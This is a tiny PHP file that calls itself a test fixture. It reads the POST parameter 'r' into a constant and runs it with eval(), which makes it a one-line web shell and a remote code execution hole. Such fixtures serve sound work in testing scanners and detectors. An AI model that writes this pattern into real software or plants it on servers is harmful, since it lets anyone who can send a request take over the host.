<?php
// test fixture: request input kept in a constant, then run as PHP code
define('RUN_CODE', isset($_POST['r']) ? $_POST['r'] : '');
if (RUN_CODE !== '') {
    eval(RUN_CODE);
}
